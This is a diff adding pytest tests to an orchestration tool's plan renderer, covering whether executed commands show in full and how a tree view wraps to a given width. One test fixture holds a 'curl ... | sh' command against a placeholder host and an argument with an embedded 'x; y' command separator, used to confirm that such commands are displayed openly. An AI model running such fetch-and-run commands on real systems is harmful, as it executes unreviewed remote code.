@@ -4,7 +4,7 @@ from dataclasses import replace
 
 import pytest
 
-from orchestrator.models.plan import Plan, PlannedGroup, PlannedPhase, PlannedTask, Targets
+from orchestrator.models.plan import Plan, PlannedCheck, PlannedGroup, PlannedPhase, PlannedTask, Targets
 from orchestrator.models.status import Execution
 from orchestrator.reporters.cells import cells
 from orchestrator.reporters.plan_locks import find_locks
@@ -41,6 +41,28 @@ def test_the_table_has_one_row_per_task(plan, plain):
         "2.9   2.b    Parallel builds   config_edit      .github/workflows/ci.yml  medium    1.2\n"
         "2.10  2.b    Path filters      config_edit      .github/workflows/ci.yml  medium\n"
     )
+
+
+def test_whatever_is_executed_is_shown_in_full(plan, plain):
+    shell = "curl -s https://example.invalid/" + "x" * 200 + " | sh"
+    check = PlannedCheck(type="coverage", title="enough", params={"command": ["npx", "jest", "a b"]})
+    tasks = (
+        replace(plan.tasks[0], params={"command": shell, "shell": True}),
+        replace(plan.tasks[1], params={"command": ["npm", "run", "x; y"]}, verify=(check,)),
+        *plan.tasks[2:],
+    )
+    groups = (replace(plan.groups[0], checkpoint=(check,)), *plan.groups[1:])
+    rows = render_plan(replace(plan, tasks=tasks, groups=groups), plain).splitlines()
+    assert rows[3].endswith(f"config_edit jest.config.js, runs in a shell: {shell}")
+    assert "and 1 more, runs npm run 'x; y', critical, verified by enough (runs npx jest 'a b')" in rows[4]
+    assert rows[5].endswith("checkpoint  enough  runs npx jest 'a b'")
+
+
+@pytest.mark.parametrize("width", [60, 80, 120])
+def test_the_tree_breaks_between_words_beneath_its_branches(plan, width):
+    rows = render_plan(plan, Look(width=width), notes=NOTES).splitlines()
+    assert all(cells(row) <= width for row in rows)
+    assert all(row.startswith(("│", "├", "└", " ", "Phase", "learning-platform")) for row in rows)
 
 
 @pytest.mark.parametrize("width", [20, 40, 60, 80, 120])
